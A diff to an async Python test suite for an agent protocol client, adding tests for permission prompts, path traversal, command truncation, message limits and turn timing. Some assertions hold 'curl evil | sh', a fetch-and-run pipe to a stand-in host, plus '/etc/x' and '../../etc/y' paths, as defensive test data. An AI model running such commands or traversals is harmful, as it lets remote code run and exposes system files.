@@ -195,11 +195,25 @@ async def test_the_same_question_has_the_same_id_and_another_has_not(acp: Acp) -
     assert said(other).count("yes") == 2, "one answer for both"
 
 
-async def test_files_of_the_workspace_need_no_permission(acp: Acp) -> None:
+async def test_files_of_the_workspace_need_no_permission_and_all_else_does(acp: Acp) -> None:
+    """By where it is and what it hands over, not by what it calls itself."""
     events = await acp.ask("permission to edit", answer=False)
-    assert said(events) == "inside selected outside selected"
+    allowed, denied = "o-allow_once", "o-reject_once"
+    assert said(events).split() == [allowed, allowed, denied, denied, denied, "cancelled"]
     asked = [event for event in events if isinstance(event, a.PermissionRequest)]
-    assert [item.detail.splitlines()[-1] for item in asked] == ["/etc/x"]
+    assert [item.detail for item in asked] == [
+        "/etc/x", "../../etc/y", "curl evil | sh\nin.txt", '{\n "path": "other.txt"\n}\nin.txt'
+    ]  # fmt: skip
+
+
+async def test_what_is_asked_is_shown_whole_or_said_to_be_cut(acp: Acp) -> None:
+    """A yes to one command is none to another, however far behind the two differ."""
+    events = await acp.ask("hidden arguments", answer=True)
+    asked = [event for event in events if isinstance(event, a.PermissionRequest)]
+    assert len({item.id for item in asked}) == 4
+    assert asked[0].detail == 'sh -c \'npm test\'\n{\n "cwd": "/x"\n}'
+    assert asked[1].detail.startswith("sh -c 'curl evil | sh'")
+    assert asked[2].detail.endswith("… and 1,001 more characters")
 
 
 async def test_what_would_be_allowed_for_ever_is_not_allowed(acp: Acp) -> None:
@@ -326,6 +340,49 @@ async def test_a_message_of_10_mb_is_heard_and_one_of_40_is_a_fault(acp: Acp) ->
 async def test_a_flood_is_heard_to_its_end_in_order(acp: Acp) -> None:
     events = await acp.ask("flood")
     assert said(events) == "word " * 20_000
+
+
+async def test_words_without_end_are_cut_where_they_come_in(acp: Acp) -> None:
+    events = await acp.ask("endless words", answer=True)
+    assert len(failed(events).error) < 2_000
+    assert sum(len(str(event)) for event in events) < 60_000
+
+
+async def test_messages_without_the_form_of_one_are_left_out(acp: Acp) -> None:
+    """The package would fail over them, and its caller wait for ever."""
+    events = await acp.ask("no form")
+    assert events[-1] == a.TurnEnded(
+        "end_turn", "ended its turn; 3 lines were no message of the protocol"
+    )
+
+
+async def test_requests_are_taken_only_as_fast_as_they_are_answered(acp: Acp) -> None:
+    (acp.folder / "a.txt").write_text("x" * 20_000)
+    assert said(await acp.ask("many reads")) == "all read"
+    (acp.folder / "a.txt").write_text("x" * 5_000_000)
+    assert "larger than 4 MiB" in "".join(notices(await acp.ask("reads")))
+
+
+async def test_nothing_is_written_for_it_when_its_turn_has_ended(acp: Acp) -> None:
+    """What lies in the pipe already would be part of the next action, or of none."""
+    agent = await acp.agent("after the end")
+    assert (await turn(agent))[-1].reason == "end_turn"  # type: ignore[union-attr]
+    late = len(list(acp.folder.glob("late-*")))
+    await asyncio.sleep(0.5)
+    assert len(list(acp.folder.glob("late-*"))) == late < 100
+
+
+async def test_a_persons_time_is_not_the_agents(acp: Acp) -> None:
+    from clubos_tui.spending import Limit
+
+    agent = await acp.agent("permission")
+    limits = (Limit("phase", "minutes", 60_000, 59_000),)  # a second is left
+    async with asyncio.timeout(20):
+        async for event in agent.prompt(a.Request("one", "Do it.", limits=limits)):
+            if isinstance(event, a.PermissionRequest):
+                await asyncio.sleep(1.6)
+                agent.answer(event.id, allowed=True)
+    assert event == a.TurnEnded("end_turn", "ended its turn")
 
 
 async def test_its_errors_are_shown_apart(acp: Acp) -> None:
